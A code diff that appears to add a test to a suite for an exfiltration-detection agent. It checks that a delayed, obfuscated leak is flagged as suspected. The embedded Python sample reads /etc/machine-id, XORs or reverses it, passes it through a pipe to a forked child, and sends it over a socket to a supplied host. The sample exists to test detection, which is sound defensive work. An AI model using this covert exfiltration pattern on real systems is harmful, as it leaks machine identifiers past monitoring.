@@ -123,3 +123,38 @@ print(pid)
         a = agent.wait_alert(process__pid=int(out))
     expect_eq("suspected", a["confidence"], "confidence")
     expect("-unix-> python3[%s]" % out.strip() in (a.get("lineage") or ""), "a unix hop in the lineage, got %r" % a.get("lineage"))
+
+
+# A holder that transforms the value and hands it on through a pipe long after its read (the
+# reader was forked before the read: it inherits nothing). argv[2] names the transform.
+LATE_TRANSFORM = """
+import os, socket, sys, time
+r, w = os.pipe()
+pid = os.fork()
+if pid == 0:
+    os.close(w)
+    data = os.read(r, 200)
+    s = socket.create_connection((sys.argv[1], 9000), timeout=5)
+    s.sendall(data)
+    os._exit(0)
+os.close(r)
+v = open("/etc/machine-id").read().strip()
+time.sleep(2.5)   # no longer a fresh read
+if sys.argv[2] == "xor":
+    os.write(w, bytes(x ^ 0x5a for x in v.encode()))
+else:
+    os.write(w, ("v=" + v[::-1]).encode())
+os.waitpid(pid, 0)
+print(pid)
+"""
+
+
+def test_value_transformed_and_handed_on_late_is_suspected(host):
+    for transform in ("xor", "reverse"):
+        with Agent(policy_text=POLICY_MACHINE_ID) as agent:
+            _, out = run_py(LATE_TRANSFORM, host.addr, transform)
+            a = agent.wait_alert(process__pid=int(out))
+        expect_eq("suspected", a["confidence"], "confidence (%s)" % transform)
+        expect_eq(["machine-id"], [i["name"] for i in a["identifiers"]], "identifiers (%s)" % transform)
+        expect("-pipe-> python3[%s]" % out.strip() in (a.get("lineage") or ""),
+               "a pipe hop in the lineage (%s), got %r" % (transform, a.get("lineage")))
